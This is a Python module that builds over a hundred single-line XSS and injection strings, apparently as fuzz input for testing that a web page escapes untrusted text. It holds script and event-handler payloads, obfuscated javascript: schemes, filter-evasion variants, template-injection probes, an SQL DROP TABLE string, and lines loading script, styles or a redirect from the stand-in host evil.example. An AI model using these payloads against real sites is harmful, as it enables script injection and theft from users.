"""More than a hundred single-line texts that inject markup into a page which does not escape them."""

from __future__ import annotations

from collections.abc import Iterator

EVENTS = ("onerror", "onload", "onclick", "onmouseover", "onfocus", "ontoggle", "onanimationstart", "onpointerenter")
ELEMENTS = ("img src=x", "svg", "body", "input autofocus", "details open", "video src=x", "audio src=x", "iframe")
SCHEMES = ("javascript:", "JaVaScRiPt:", "java\tscript:", "vbscript:", "data:text/html,", "&#106;avascript:")
SCHEME_TEMPLATES = (
    '<a href="{}alert(1)">x</a>',
    '<iframe src="{}alert(1)">',
    '<form action="{}alert(1)"><button>x</form>',
)
SINGLE_TEXTS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '"><svg onload=alert(1)>',
    "' onmouseover='alert(1)",
    "</pre></code><iframe src=javascript:alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "<!--<img src=--><img src=x onerror=alert(1)>",
    "<style>*{display:none}</style>",
    "<style>@import 'http://evil.example/x.css'</style>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<base href=http://evil.example/>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<xss id=x tabindex=1 onfocus=alert(1)></xss>",
    "{{constructor.constructor('alert(1)')()}}",
    "{{7*7}}",
    "${alert(1)}",
    "#{alert(1)}",
    "<%= alert(1) %>",
    "[x](javascript:alert(1))",
    "![x](x onerror=alert(1))",
    "`${alert(1)}`",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&lt;b&gt; &amp; '\"`",
    "＜script＞alert(1)＜/script＞",
    "<ſcript>alert(1)</ſcript>",
    "\u202edesrever\u202c \u0007 \u200b",
    "\ufeff<b>bold</b>",
    "a\u2028b\u2029c",
    "__proto__",
    "constructor",
    "toString",
    "'; DROP TABLE students; --",
    "\x1b[31mred\x1b[0m",
)


def _generate() -> Iterator[str]:
    yield from SINGLE_TEXTS
    for element in ELEMENTS:
        for event in EVENTS:
            yield f"<{element} {event}=alert(1)>"
    for scheme in SCHEMES:
        for carrier in SCHEME_TEMPLATES:
            yield carrier.format(scheme)


HOSTILE = tuple(_generate())
